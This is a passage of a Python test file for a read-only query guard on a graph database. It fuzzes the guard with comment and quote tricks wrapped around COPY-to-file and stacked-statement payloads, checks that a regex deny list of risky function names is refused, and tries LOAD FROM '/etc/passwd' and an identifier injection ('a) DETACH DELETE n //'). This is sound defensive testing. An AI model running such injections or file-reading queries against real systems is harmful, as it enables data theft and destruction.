                                                       query: str) -> None:
    with pytest.raises(ReadOnlyQueryError):
        assert_read_only(query)
    with pytest.raises(RuntimeError, match="Parser exception"):
        engine.execute(query)


@pytest.mark.parametrize(("query", "rows"), [
    ("RETURN " + "(" * MAX_NESTING + "1" + ")" * MAX_NESTING + " AS x", [[1]]),
    ("RETURN size(" + "[" * (MAX_NESTING - 1) + "1" + "]" * (MAX_NESTING - 1) + ") AS x", [[1]]),
    ("RETURN " + "{a:" * MAX_NESTING + "1" + "}" * MAX_NESTING + " IS NULL AS x", [[False]]),
    ("RETURN " + "CASE WHEN true THEN " * MAX_CASE_NESTING + "1" + " END" * MAX_CASE_NESTING
     + " AS x", [[1]]),
    ("RETURN " + "+".join(["1"] * (MAX_TOKENS // 2 - 2)) + " AS x", [[MAX_TOKENS // 2 - 2]]),
])
def test_the_engine_runs_what_the_limits_allow(engine: lb.Connection, query: str,
                                               rows: list[list[object]]) -> None:
    """At the bounds the engine answers, quickly (beyond them it crashed or took
    minutes; the measurements are in kgstore.cypher.guard)."""
    assert_read_only(query)
    started = time.perf_counter()
    assert engine.execute(query).get_all() == rows
    assert time.perf_counter() - started < 10


# Lexical tricks glued at random around a payload that writes a file or adds a second
# statement: comments, strings and names that end where a careless lexer would not
# expect them hide the payload from it.
_FUZZ_OUT = Path(tempfile.gettempdir()) / f"kgbench-guard-fuzz-{os.getpid()}.csv"
_TRICKS = [
    "/*", "*/", "**/", "*", "/", "//", "'", '"', "\\", "`", "\n", "\r", " ", "\u00a0",
    "\\'", "''", "/* **/ ' */ ", "/* ***/", "RETURN 1", "RETURN 2 AS x", "MATCH (e:Entity)",
    "RETURN e.id", "e.copy", "{a: 1}", "(", ")", "$p", "UNION ALL", "CALL show_tables()",
    "RETURN *", "a$b", "1.", ".5", ";",
]
_PAYLOADS = [f"COPY (RETURN 1) TO '{_FUZZ_OUT}'", f"; COPY (RETURN 1) TO '{_FUZZ_OUT}'",
             "RETURN 1; RETURN 2", " ; RETURN 3"]


@settings(deadline=None, max_examples=600, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(_TRICKS), max_size=6), st.sampled_from(_PAYLOADS),
       st.lists(st.sampled_from(_TRICKS), max_size=6))
def test_what_the_check_accepts_the_engine_runs_as_one_read(
    engine: lb.Connection, before: list[str], payload: str, after: list[str]
) -> None:
    """Differential: whatever the check accepts, the engine runs as at most one statement
    and writes no file (the old check let "/* **/ ' */ COPY ..." through)."""
    query = "".join(before) + payload + "".join(after)
    _FUZZ_OUT.unlink(missing_ok=True)
    try:
        assert_read_only(query)
    except ReadOnlyQueryError:
        return
    try:
        result = engine.execute(query, {"p": 1}) if "$p" in query else engine.execute(query)
    except RuntimeError:
        result = None  # a syntax or binder error: nothing ran
    wrote = _FUZZ_OUT.exists()
    _FUZZ_OUT.unlink(missing_ok=True)
    assert not isinstance(result, list), query
    assert not wrote, query


def test_function_lists_match_the_engine(engine_store: Path) -> None:
    """The catalogue exists in the engine; every other table function, and every
    function whose name suggests files, network or settings, is refused."""
    with open_store(engine_store, read_only=True) as s:
        rows = s.cypher("CALL show_functions() RETURN name, type").rows
    by_type: dict[str, set[str]] = {}
    for name, kind in rows:
        by_type.setdefault(kind, set()).add(name.lower())
    table_functions = by_type["TABLE FUNCTION"]
    for entry in CATALOGUE["ladybug"]:
        assert entry.split("(")[0] in table_functions
    catalogue = {entry.split("(")[0] for entry in CATALOGUE["ladybug"]}
    others = (table_functions | by_type.get("STANDALONE TABLE FUNCTION", set())
              | by_type.get("COPY FUNCTION", set())) - catalogue
    assert others  # read_csv_serial, read_parquet, current_setting, ...
    for name in sorted(others):
        with pytest.raises(ReadOnlyQueryError):
            assert_read_only(f"CALL {name}('x') RETURN *")
        with pytest.raises(ReadOnlyQueryError):
            assert_read_only(f"RETURN {name}('x')")
    risky = re.compile(r"file|read|scan|http|url|load|exec|shell|system|env|download|write|"
                       r"nextval|seed|setting|install|extension|copy|import|export|attach")
    scalars = set().union(*(names for kind, names in by_type.items()
                            if "TABLE" not in kind and "COPY" not in kind))
    for name in sorted(scalars):
        if risky.search(name):
            with pytest.raises(ReadOnlyQueryError):
                assert_read_only(f"RETURN {name}('x')")


# -- the store behind the check ------------------------------------------------------------


def test_store_reports_several_statements_without_a_traceback(
    engine_store: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Were the check to let two statements through, the store says so (it used to fail
    an assert)."""
    monkeypatch.setattr(ladybug_store, "assert_read_only", lambda q: None)
    with open_store(engine_store, read_only=True) as s:
        with pytest.raises(QueryError, match="2 statements"):
            s.cypher("RETURN 1; RETURN 2")
        assert s.cypher("RETURN 1 AS one").rows == [[1]]


def test_store_refuses_through_the_check(engine_store: Path) -> None:
    with open_store(engine_store, read_only=True) as s:
        with pytest.raises(ReadOnlyQueryError, match="`;`"):
            s.cypher("RETURN 1; RETURN 2")
        with pytest.raises(ReadOnlyQueryError, match="`LOAD FROM`"):
            s.cypher("LOAD FROM '/etc/passwd' (file_format='csv') RETURN *")
        assert s.cypher("CALL show_tables() RETURN name").rows


# -- identifiers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["Entity", "_x", "a1", "e_2_b", "A" * 128],
)
def test_check_identifier_accepts(name: str) -> None:
    assert check_identifier(name) == name


@pytest.mark.parametrize(
    "name",
    ["", "1a", "a b", "a-b", "a.b", "`a`", "a`", "A" * 129, "é", "a\n", "\na",
     "a) DETACH DELETE n //", "a;", "$a"],
)
def test_check_identifier_rejects(name: str) -> None:
    with pytest.raises(ValueError, match="invalid label"):
        check_identifier(name, "label")
